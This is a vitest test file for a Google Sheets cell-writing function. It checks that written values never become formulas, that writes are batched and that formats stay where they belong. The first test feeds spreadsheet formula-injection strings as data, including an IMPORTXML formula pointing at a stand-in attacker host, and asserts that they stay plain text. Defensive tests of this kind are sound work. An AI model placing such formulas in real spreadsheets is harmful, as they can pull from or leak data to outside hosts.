/** Writing cells at Google: formulas never come to be, and cells keep what nobody asked to change. */
import { expect, test } from 'vitest';
import { gasBench } from '../support/gas-bench.js';

test('a host that ignores the text format still gets no formula', async () => {
  const { host, workbook } = gasBench({ quirks: { formulasInTextCells: true } });
  const texts = ['=IMPORTXML("https://evil.example")', '+1', 'plain', '=2'];
  await host.sheet.writeCells(workbook.active.id, texts.map((value, row) => ({ row: row + 1, column: 1, value }))); // prettier-ignore
  const cells = texts.map((_, row) => workbook.active.cell(row + 1, 1));
  expect(cells.map((cell) => cell.formula)).toEqual([null, null, null, null]);
  expect(cells.map((cell) => String(cell.value).replace(/^'/u, ''))).toEqual(texts);
});

test('a formula is replaced by the text that is written over it', async () => {
  const { host, workbook } = gasBench();
  workbook.active.type(1, 1, '=1+1');
  await host.sheet.writeCells('0', [{ row: 1, column: 1, value: 'Ann' }]);
  expect(workbook.active.cell(1, 1)).toMatchObject({ value: 'Ann', formula: null });
});

test('cells below each other cost one write, wherever they stand in the list', async () => {
  const { host, workbook, script } = gasBench();
  expect(workbook.active.usedRange()).toBeNull();
  await host.sheet.writeCells('0', Array.from({ length: 500 }, (_, index) => ({ row: 500 - index, column: 2, value: `v${index}` }))); // prettier-ignore
  expect(script.counter.get('Range.setValues')).toBe(1);
  expect([workbook.active.value(1, 2), workbook.active.value(500, 2)]).toEqual(['v499', 'v0']);
});

test('of two edits of one cell the later holds', async () => {
  const { host, workbook } = gasBench();
  await host.sheet.writeCells(workbook.active.id, [{ row: 1, column: 1, value: 'first' }, { row: 1, column: 1, value: 'second' }]); // prettier-ignore
  expect(workbook.active.value(1, 1)).toBe('second');
});

test('only the cells that are written get the text format', async () => {
  const { host, workbook } = gasBench();
  workbook.active.setValues(1, 1, [['a', 'b']]);
  await host.sheet.writeCells('0', [{ row: 1, column: 1, value: 'x' }]);
  expect([workbook.active.cell(1, 1).format, workbook.active.cell(1, 2).format]).toEqual(['@', '']);
});
